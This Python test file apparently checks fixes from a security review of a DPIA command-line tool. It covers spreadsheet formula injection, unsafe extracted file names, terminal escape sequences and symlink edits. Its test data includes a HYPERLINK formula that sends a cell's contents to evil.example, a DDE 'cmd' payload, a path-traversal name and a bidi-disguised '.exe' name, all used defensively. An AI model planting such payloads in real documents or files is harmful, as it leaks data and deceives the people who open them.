"""Outside review, session 3 (/work/attack-findings/session3.md): each test reproduces one finding through
the command line and fails on the code as it was found."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest

from app.cli import main
from tests.helpers.working_copy import working_copy

SCENARIO = "supermarket_watchlist_nl"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'


def _edited(tmp_path: Path, name: str = "a.dpia", **changes: object) -> Path:
    path = working_copy(tmp_path, SCENARIO, name)
    data = json.loads(path.read_text(encoding="utf-8"))
    for key, value in changes.items():
        data[key] = value
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _hostile_plan(tmp_path: Path) -> Path:
    measure = {
        "id": "m1",
        "title": HOSTILE,
        "description": "+cmd|' /C calc'!A0 and a Word line break\x0bhere",
        "owner": "@SUM(1+1)",
        "risks": ["unlawful_special_category"],
    }
    return _edited(tmp_path, measures=[measure])


# -- finding 1: formula injection in the CSV and XLSX exports ------------------------------------------


def test_xlsx_keeps_a_formula_like_title_as_text(tmp_path: Path) -> None:
    source, out = _hostile_plan(tmp_path), tmp_path / "plan.xlsx"
    assert main(["export", str(source), "--format", "xlsx", "-o", str(out)]) == 0
    sheet = openpyxl.load_workbook(out)["Action plan"]
    title, description, owner = sheet["B2"], sheet["C2"], sheet["E2"]
    assert (title.data_type, title.value) == ("s", HOSTILE)
    assert title.quotePrefix
    assert owner.data_type == "s"
    assert "\x0b" not in description.value and description.value.endswith("line break here")


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    source, out = _hostile_plan(tmp_path), tmp_path / "register.csv"
    assert main(["export", str(source), "--format", "csv", "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    special = next(r for r in rows if r["risk_id"] == "unlawful_special_category")
    assert special["measures"] == "'" + HOSTILE


# -- finding 2: control characters and long titles break the Word export ----------------------------------


@pytest.mark.parametrize(
    "metadata",
    [{"title": "Entrance cameras\x0bsecond line\x0cpage"}, {"title": "T" * 400, "assessor": "A" * 300}],
)
def test_docx_export_survives_control_characters_and_long_titles(tmp_path: Path, metadata: dict) -> None:
    import docx

    source = _edited(tmp_path, metadata=metadata)
    data = json.loads(source.read_text(encoding="utf-8"))
    data["notes"] = {"fr_function": {"text": "pasted from Word:\x0bnext line\x01"}}
    source.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "report.docx"
    assert main(["export", str(source), "--format", "docx", "-o", str(out)]) == 0
    document = docx.Document(str(out))
    assert len(document.core_properties.title) <= 255
    assert "second line" in document.core_properties.title or "T" * 100 in document.core_properties.title


# -- finding 3: --extract-evidence trusts the names a (hostile) report gives its files -------------------


def _pdf_with_files(path: Path, names: list[str]) -> Path:
    import datetime as dt

    from reportlab.pdfgen.canvas import Canvas

    from app.report.attachments import Attachment, embed

    canvas = Canvas(str(path))
    canvas.drawString(100, 700, "not a DPIA report")
    files = [Attachment(name, b"data %d" % n, "evidence", "text/plain") for n, name in enumerate(names)]
    embed(canvas, files, dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    canvas.showPage()
    canvas.save()
    return path


def test_extracted_names_carry_no_terminal_escapes_or_bidi_overrides(tmp_path: Path, capsys) -> None:
    names = ["evidence-\x1b]0;PWNED\x07\x1b[31mred", "evidence-invoice\u202efdp.exe", "evidence-" + "B" * 600]
    pdf, folder = _pdf_with_files(tmp_path / "hostile.pdf", names), tmp_path / "out"
    main(["verify", str(pdf), "--extract-evidence", str(folder)])
    out = capsys.readouterr().out
    written = sorted(p.name for p in folder.iterdir())
    assert written == sorted(["_]0;PWNED__[31mred", "invoice_fdp.exe", "B" * 200])
    assert "\x1b" not in out and "\u202e" not in out


def test_two_files_with_one_file_name_write_nothing(tmp_path: Path, capsys) -> None:
    names = ["evidence-../../escaped", "evidence-a/same", "evidence-b/same"]
    pdf, folder = _pdf_with_files(tmp_path / "hostile.pdf", names), tmp_path / "out"
    assert main(["verify", str(pdf), "--extract-evidence", str(folder)]) == 2
    assert "same file name (nothing was written)" in capsys.readouterr().err
    assert not folder.exists() or not list(folder.iterdir())
    assert not (tmp_path / "escaped").exists()


# -- finding 4: diff, merge and recheck print a copy's text raw to the terminal ------------------------

ESCAPES = "ok\x1b]0;PWNED\x07\x1b[2K\rresult: no differences \u202e"


def test_diff_and_merge_print_a_copys_escape_codes_escaped(tmp_path: Path, capsys) -> None:
    base = working_copy(tmp_path, SCENARIO, "base.dpia")
    answers = json.loads(base.read_text(encoding="utf-8"))["answers"]
    hostile = _edited(tmp_path, "anna.dpia", answers={**answers, "processing_description": ESCAPES})
    other = _edited(tmp_path, "bob.dpia", answers={**answers, "processing_description": "other"})
    assert main(["diff", str(base), str(hostile)]) == 1
    assert main(["merge", str(base), str(hostile), str(other), "-o", str(tmp_path / "m.dpia")]) == 1
    out = capsys.readouterr().out
    assert "\\x1b]0;PWNED" in out
    assert not any(c in out for c in "\x1b\x07\r\u202e")


# -- finding 5: commands write .dpia files that break the input limits and can never be opened again ----


def test_merge_refuses_a_result_over_the_input_limit(tmp_path: Path, monkeypatch, capsys) -> None:
    import os

    from app.core import safeio

    monkeypatch.setattr(safeio, "MAX_ASSESSMENT_BYTES", 150_000)  # 4 x 8 MiB of evidence, scaled down
    base = working_copy(tmp_path, SCENARIO, "base.dpia")
    copies = []
    for name in ("anna", "bob"):
        copy = working_copy(tmp_path, SCENARIO, f"{name}.dpia")
        evidence = tmp_path / f"{name}.bin"
        evidence.write_bytes(os.urandom(60_000))
        assert main(["attach", str(copy), str(evidence), "--question", "fr_function"]) == 0
        copies.append(str(copy))
    out = tmp_path / "merged.dpia"
    assert main(["merge", str(base), *copies, "-o", str(out)]) == 2
    assert "could not be opened again" in capsys.readouterr().err
    assert not out.exists()


def test_version_never_saves_a_file_it_cannot_open_again(tmp_path: Path, monkeypatch, capsys) -> None:
    from app.core import safeio

    monkeypatch.setattr(safeio, "MAX_ASSESSMENT_BYTES", 150_000)
    path = _edited(tmp_path, notes={"fr_function": {"text": "workshop minutes " * 3_500}})
    assert main(["version", str(path), "--label", "v1"]) == 0
    before = path.read_bytes()
    assert main(["version", str(path), "--label", "v2"]) == 2
    assert "could not be opened again" in capsys.readouterr().err
    assert path.read_bytes() == before
    assert main(["assess", str(path)]) == 0


# -- finding 6: a swapped BASE (or one that moved on) silently undoes changes ---------------------------


def test_merge_refuses_a_copy_older_than_the_base(tmp_path: Path, capsys) -> None:
    from app.core.lineage import save_revision
    from app.core.storage import load_assessment

    original = working_copy(tmp_path, SCENARIO, "base.dpia")
    assert main(["version", str(original), "--label", "workshop"]) == 0
    edited = load_assessment(original)
    edited.answers["scale"] = "gt_10m"
    save_revision(edited, tmp_path / "anna.dpia")
    out = tmp_path / "merged.dpia"
    assert main(["merge", str(tmp_path / "anna.dpia"), str(original), "-o", str(out)]) == 2
    assert "earlier state" in capsys.readouterr().err
    assert not out.exists()


# -- finding 7: attach takes names that disguise a file ------------------------------------------------


@pytest.mark.parametrize("name", ["invoice\u202efdp.exe", "a\x7fb", "c\x85d", "new\u2028line", "..."])
def test_attach_refuses_names_that_disguise_the_file(tmp_path: Path, name: str, capsys) -> None:
    path = working_copy(tmp_path, SCENARIO, "a.dpia")
    before = path.read_bytes()
    evidence = tmp_path / name
    evidence.write_bytes(b"MZ")
    assert main(["attach", str(path), str(evidence), "--question", "fr_function"]) == 2
    assert "cannot be an attachment name" in capsys.readouterr().err
    assert path.read_bytes() == before


# -- finding 8: an edit through a symlinked FILE replaces the link and leaves the real file unchanged ----


@pytest.mark.parametrize(
    "command",
    [
        ["version", "--label", "v1"],
        ["status", "in_review"],
        ["attach", "EVIDENCE", "--question", "fr_function"],
    ],
)
def test_an_edit_through_a_symlink_reaches_the_real_file(tmp_path: Path, command: list[str]) -> None:
    real = working_copy(tmp_path, SCENARIO, "shared.dpia")
    link = tmp_path / "current.dpia"
    link.symlink_to(real)
    evidence = tmp_path / "minutes.txt"
    evidence.write_text("minutes", encoding="utf-8")
    before = real.read_bytes()
    args = [str(evidence) if part == "EVIDENCE" else part for part in command]
    assert main([args[0], str(link), *args[1:]]) == 0
    assert link.is_symlink()
    assert real.read_bytes() != before


def test_review_and_assess_print_an_evaluators_escape_codes_escaped(tmp_path: Path, capsys) -> None:
    path = working_copy(tmp_path, SCENARIO, "a.dpia")
    review = ["review", str(path), "--section", "project", "--status", "improvable"]
    assert main([*review, "--comment", "fix\x1b[2J\rresult: OK", "--evaluator", "Eve\x1b]0;x\x07"]) == 0
    assert main(["assess", str(path)]) == 0
    out = capsys.readouterr().out
    assert "Eve\\x1b]0;x\\x07" in out and "fix\\x1b[2J\\rresult: OK" in out
    assert not any(c in out for c in "\x1b\x07\r")
